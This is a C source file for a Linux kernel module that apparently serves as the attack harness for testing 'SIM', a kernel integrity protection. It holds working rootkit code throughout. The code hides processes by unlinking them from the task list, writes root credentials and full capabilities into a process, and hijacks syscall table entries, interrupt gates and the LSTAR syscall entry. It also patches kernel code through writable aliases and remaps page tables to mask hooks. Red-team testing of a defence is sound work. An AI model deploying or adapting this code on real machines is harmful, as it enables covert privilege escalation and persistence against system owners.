// SPDX-License-Identifier: GPL-2.0-or-later
/*
 * What an attacker who has the guest kernel does to SIM, as a kernel module for the demo and the
 * tests. Each parameter asks for one attack; the module says in the kernel log what it tried and
 * what it saw.
 *
 *   probe_gpa=ADDRESS,...  map guest-physical memory there (the region), read and write it; 16
 *                          addresses at most
 *   overwrite=ADDRESS      put the 5-byte NOP back over the hook of the kernel function at ADDRESS,
 *                          through a writable alias of the page
 *   remap=ADDRESS          leave the hooked page alone, and have the kernel's page table show a
 *                          copy without the hook in its place: no write to a sealed page ever
 *                          happens
 *   pointer=ADDRESS        have the pointer at ADDRESS (an entry of a system call table) lead to
 *                          this module
 *   gate=ADDRESS           have the entry of the interrupt table at ADDRESS lead to this module
 *   patch=ADDRESS          write a jump to this module over the code at ADDRESS, of the kernel or
 *                          of a module
 *   lstar=1                have SYSCALL enter this module, which goes on to the kernel's own entry;
 *                          with page table isolation, where a process's tables have no page of a
 *                          module's, enter the kernel behind its entry's ENDBR64
 *   hide=PID               take a process out of the kernel's list of tasks
 *   rights=PID             make a process root's, by writing into its credentials
 *   filter=1               register a network filter that is no code at all
 *   private_tables=PID     give a process page tables of its own for the kernel's half, without the
 *                          gates
 *
 * What the last eight did is undone when the module is removed, but for `rights`.
 *
 * Addresses of functions come from /proc/kallsyms, so no symbol of the kernel is needed that
 * modules lack.
 */
#include <linux/cred.h>
#include <linux/io.h>
#include <linux/mm.h>
#include <linux/module.h>
#include <linux/netfilter.h>
#include <linux/netfilter_ipv4.h>
#include <linux/pid.h>
#include <linux/rculist.h>
#include <linux/sched/mm.h>
#include <linux/sched/signal.h>
#include <linux/sched/task.h>
#include <linux/smp.h>
#include <linux/vmalloc.h>
#include <asm/desc_defs.h>
#include <asm/msr.h>
#include <asm/pgtable.h>
#include <net/net_namespace.h>

static unsigned long probe_gpa[16];
static unsigned int probes;
module_param_array(probe_gpa, ulong, &probes, 0);
static unsigned long overwrite;
module_param(overwrite, ulong, 0);
static unsigned long remap;
module_param(remap, ulong, 0);

static unsigned long pointer, gate, patch;
module_param(pointer, ulong, 0);
module_param(gate, ulong, 0);
module_param(patch, ulong, 0);
static int lstar, hide, rights, filter, private_tables;
module_param(lstar, int, 0);
module_param(hide, int, 0);
module_param(rights, int, 0);
module_param(filter, int, 0);
module_param(private_tables, int, 0);

#define HOOK_BYTES 5
static const u8 nop5[HOOK_BYTES] = { 0x0f, 0x1f, 0x44, 0x00, 0x00 };

#define PTE_ADDRESS 0x000ffffffffff000UL
#define PTE_LARGE (1UL << 7)

/* The entry that maps a kernel address, of whatever size, found from CR3 as the CPU finds it. */
static u64 *leaf_entry(unsigned long address, unsigned int *shift)
{
	u64 *table = __va(__read_cr3() & PTE_ADDRESS);
	bool five_levels = native_read_cr4() & X86_CR4_LA57;
	u64 *entry;

	for (*shift = five_levels ? 48 : 39;; *shift -= 9) {
		entry = &table[(address >> *shift) & 511];
		if (!(*entry & 1))
			return NULL;
		if (*shift == 12 || (*shift <= 30 && (*entry & PTE_LARGE)))
			return entry;
		table = __va(*entry & PTE_ADDRESS);
	}
}

static phys_addr_t physical_of(unsigned long address)
{
	unsigned int shift;
	u64 *entry = leaf_entry(address, &shift);

	if (!entry)
		return 0;
	return ((*entry & PTE_ADDRESS) & ~((1UL << shift) - 1)) | (address & ((1UL << shift) - 1));
}

/* The call of the gate: at the function's start, or after a 4-byte ENDBR64. NULL: not hooked. */
static u8 *hook_site(unsigned long function)
{
	u8 *code = (u8 *)function;

	if (code[0] == 0xe8)
		return code;
	if (code[4] == 0xe8)
		return code + 4;
	pr_info("rootkit: no hook at %px (%*ph)\n", code, 9, code);
	return NULL;
}

static void probe(void)
{
	unsigned int i;

	for (i = 0; i < probes; i++) {
		unsigned long gpa = probe_gpa[i];
		void __iomem *window = ioremap(gpa, PAGE_SIZE);
		u64 before, after;

		if (!window) {
			pr_info("rootkit: guest-physical %#lx cannot be mapped\n", gpa);
			continue;
		}
		before = readq(window);
		writeq(0x6b6f6f747265746eULL, window);
		after = readq(window);
		iounmap(window);
		pr_info("rootkit: guest-physical %#lx: read %#llx, wrote, read %#llx\n", gpa,
			before, after);
	}
}

static void overwrite_hook(void)
{
	u8 *site = hook_site(overwrite);
	struct page *page;
	u8 *alias;

	if (!site)
		return;
	page = pfn_to_page(physical_of((unsigned long)site) >> PAGE_SHIFT);
	alias = vmap(&page, 1, VM_MAP, PAGE_KERNEL);
	if (!alias) {
		pr_info("rootkit: no alias for %px\n", site);
		return;
	}
	pr_info("rootkit: hook at %px before: %*ph\n", site, HOOK_BYTES, site);
	memcpy(alias + offset_in_page(site), nop5, HOOK_BYTES);
	pr_info("rootkit: hook at %px after:  %*ph: %s\n", site, HOOK_BYTES, site,
		memcmp(site, nop5, HOOK_BYTES) ? "it withstood" : "gone");
	vunmap(alias);
}

static void flush(void *unused)
{
	unsigned long cr4 = native_read_cr4();

	/* Kernel text is global: only this reaches it. */
	asm volatile("mov %0, %%cr4" : : "r"(cr4 & ~X86_CR4_PGE) : "memory");
	asm volatile("mov %0, %%cr4" : : "r"(cr4) : "memory");
}

static void remap_hook(void)
{
	u8 *site = hook_site(remap);
	unsigned int shift, i;
	struct page *copy, *table;
	u64 *entry, *small, flags;
	u8 *text;

	if (!site)
		return;
	entry = leaf_entry((unsigned long)site, &shift);
	if (!entry || shift > 21 || offset_in_page(site) > PAGE_SIZE - HOOK_BYTES) {
		pr_info("rootkit: cannot remap %px\n", site);
		return;
	}
	copy = alloc_page(GFP_KERNEL);
	table = alloc_page(GFP_KERNEL);
	if (!copy || !table)
		return;
	text = page_address(copy);
	memcpy(text, (void *)((unsigned long)site & PAGE_MASK), PAGE_SIZE);
	memcpy(text + offset_in_page(site), nop5, HOOK_BYTES);

	if (shift == 21) {
		/* Split the large page: 511 entries as before, one of our own. */
		small = page_address(table);
		flags = *entry & ~PTE_ADDRESS & ~PTE_LARGE;
		for (i = 0; i < 512; i++)
			small[i] = ((*entry & PTE_ADDRESS & ~((1UL << 21) - 1)) + i * PAGE_SIZE) |
				   flags;
		i = ((unsigned long)site >> PAGE_SHIFT) & 511;
		small[i] = page_to_phys(copy) | flags;
		WRITE_ONCE(
			*entry,
			page_to_phys(table) |
				0x63); /* present, writable, accessed, dirty; the leaf restricts */
	} else {
		WRITE_ONCE(*entry, page_to_phys(copy) | (*entry & ~PTE_ADDRESS));
	}
	on_each_cpu(flush, NULL, 1);
	pr_info("rootkit: page of %px now shows guest-physical %#llx: %*ph\n", site,
		(u64)page_to_phys(copy), HOOK_BYTES, site);
}

/* Where redirected pointers lead. Nothing calls it while the tests look. */
static noinline void destination(void)
{
	pr_info("rootkit: called\n");
}

/* What was written over, to be put back. */
static struct {
	void *where;
	u8 before[16];
	size_t size;
} changes[4];
static unsigned int change_count;

/* Writes through an alias of the page, as what the kernel maps itself may be read-only. */
static void write_at(void *where, const void *bytes, size_t size)
{
	struct page *page = pfn_to_page(physical_of((unsigned long)where) >> PAGE_SHIFT);
	u8 *alias;

	if (offset_in_page(where) + size > PAGE_SIZE) {
		pr_info("rootkit: %px lies on two pages\n", where);
		return;
	}
	alias = vmap(&page, 1, VM_MAP, PAGE_KERNEL);
	if (!alias) {
		pr_info("rootkit: no alias for %px\n", where);
		return;
	}
	memcpy(alias + offset_in_page(where), bytes, size);
	vunmap(alias);
}

static void change(unsigned long where, const void *bytes, size_t size)
{
	unsigned int i = change_count++;

	changes[i].where = (void *)where;
	changes[i].size = size;
	memcpy(changes[i].before, changes[i].where, size);
	write_at(changes[i].where, bytes, size);
	pr_info("rootkit: %px was %*ph, is %*ph\n", changes[i].where, (int)size, changes[i].before,
		(int)size, changes[i].where);
}

static void change_pointer(void)
{
	unsigned long target = (unsigned long)destination;

	change(pointer, &target, sizeof(target));
}

static void change_gate(void)
{
	gate_desc entry = *(gate_desc *)gate;
	unsigned long target = (unsigned long)destination;

	entry.offset_low = target;
	entry.offset_middle = target >> 16;
	entry.offset_high = target >> 32;
	change(gate, &entry, sizeof(entry));
}

static void change_code(void)
{
	u8 jump[HOOK_BYTES] = { 0xe9 };
	s32 distance = (long)destination - (long)(patch + HOOK_BYTES);

	memcpy(jump + 1, &distance, sizeof(distance));
	change(patch, jump, sizeof(jump));
}

/* Goes on to where LSTAR led. Nothing may be touched: this is the guest's every system call. */
unsigned long rootkit_kernel_entry;
void rootkit_entry(void);
asm(".pushsection .text\n"
    ".globl rootkit_entry\n"
    "rootkit_entry:\n"
    "	.byte 0xff, 0x25\n" /* jmp *rootkit_kernel_entry(%rip) */
    "	.long rootkit_kernel_entry - . - 4\n"
    ".popsection\n");

/* By hand: the kernel's own names for these changed in 6.16. */
static void set_lstar(void *value)
{
	unsigned long entry = (unsigned long)value;

	asm volatile("wrmsr"
		     :
		     : "c"(MSR_LSTAR), "a"((u32)entry), "d"((u32)(entry >> 32))
		     : "memory");
}

static unsigned long get_lstar(void)
{
	u32 low, high;

	asm volatile("rdmsr" : "=a"(low), "=d"(high) : "c"(MSR_LSTAR));
	return low | (unsigned long)high << 32;
}

static void change_lstar(void)
{
	static const u8 endbr64[] = { 0xf3, 0x0f, 0x1e, 0xfa };
	unsigned long entry = get_lstar(), other = (unsigned long)rootkit_entry;

	if (boot_cpu_has(X86_FEATURE_PTI)) {
		other = entry + sizeof(endbr64);
		if (memcmp((void *)entry, endbr64, sizeof(endbr64))) {
			pr_err("rootkit: LSTAR is left alone: %lx begins otherwise\n", entry);
			return;
		}
	}
	rootkit_kernel_entry = entry;
	on_each_cpu(set_lstar, (void *)other, 1);
	pr_info("rootkit: LSTAR was %lx\n", entry);
}

static struct task_struct *task_of(int pid)
{
	struct task_struct *task;

	rcu_read_lock();
	task = pid_task(find_vpid(pid), PIDTYPE_PID);
	if (task)
		get_task_struct(task);
	rcu_read_unlock();
	if (!task)
		pr_info("rootkit: no process %d\n", pid);
	return task;
}

static struct task_struct *hidden;

static void hide_task(void)
{
	hidden = task_of(hide);
	if (hidden)
		list_del_rcu(&hidden->tasks);
}

static void give_rights(void)
{
	struct task_struct *task = task_of(rights);
	struct cred *cred;

	if (!task)
		return;
	cred = (struct cred *)task->real_cred;
	cred->uid = cred->euid = cred->suid = cred->fsuid = GLOBAL_ROOT_UID;
	cred->gid = cred->egid = cred->sgid = cred->fsgid = GLOBAL_ROOT_GID;
	memset(&cred->cap_permitted, 0xff, sizeof(cred->cap_permitted));
	cred->cap_effective = cred->cap_permitted;
	pr_info("rootkit: process %d is root's\n", rights);
	put_task_struct(task);
}

static struct nf_hook_ops filter_ops = {
	.pf = NFPROTO_IPV4,
	.hooknum = NF_INET_LOCAL_IN,
	.priority = NF_IP_PRI_LAST,
};
static void *filter_memory;

static void add_filter(void)
{
	filter_memory = vmalloc(PAGE_SIZE);
	if (!filter_memory)
		return;
	filter_ops.hook = filter_memory;
	if (nf_register_net_hook(&init_net, &filter_ops)) {
		pr_info("rootkit: no filter\n");
		vfree(filter_memory);
		filter_memory = NULL;
	}
}

static u64 *top_entry, top_before;

/*
 * A copy of each table from the topmost entry down to the one with the gates, and there they are
 * gone.
 */
static void give_tables(void)
{
	bool five_levels = native_read_cr4() & X86_CR4_LA57;
	struct task_struct *task = task_of(private_tables);
	struct page *copy;
	u64 *entry, *table;
	int level;

	if (!task)
		return;
	if (!task->mm) {
		put_task_struct(task);
		return;
	}
	top_entry = entry = (u64 *)task->mm->pgd + 511;
	top_before = *entry;
	for (level = five_levels ? 2 : 1; level > 0; level--) {
		copy = alloc_page(GFP_KERNEL);
		if (!copy)
			break;
		table = page_address(copy);
		memcpy(table, __va(*entry & PTE_ADDRESS), PAGE_SIZE);
		WRITE_ONCE(*entry, page_to_phys(copy) | (*entry & ~PTE_ADDRESS));
		entry = table + 511;
		if (level == 1)
			table[508] = table[509] = 0;
	}
	pr_info("rootkit: process %d has tables of its own\n", private_tables);
	put_task_struct(task);
}

static int __init rootkit_init(void)
{
	if (pointer)
		change_pointer();
	if (gate)
		change_gate();
	if (patch)
		change_code();
	if (lstar)
		change_lstar();
	if (hide)
		hide_task();
	if (rights)
		give_rights();
	if (filter)
		add_filter();
	if (private_tables)
		give_tables();
	probe();
	if (overwrite)
		overwrite_hook();
	if (remap)
		remap_hook();
	return 0;
}

static void __exit rootkit_exit(void)
{
	unsigned int i;

	for (i = 0; i < change_count; i++)
		write_at(changes[i].where, changes[i].before, changes[i].size);
	if (rootkit_kernel_entry)
		on_each_cpu(set_lstar, (void *)rootkit_kernel_entry, 1);
	if (hidden) {
		list_add_tail_rcu(&hidden->tasks, &init_task.tasks);
		put_task_struct(hidden);
	}
	if (filter_memory) {
		nf_unregister_net_hook(&init_net, &filter_ops);
		vfree(filter_memory);
	}
	if (top_entry)
		WRITE_ONCE(*top_entry, top_before);
}

module_init(rootkit_init);
module_exit(rootkit_exit);
MODULE_DESCRIPTION("Attacks on SIM from within the guest kernel");
MODULE_LICENSE("GPL");
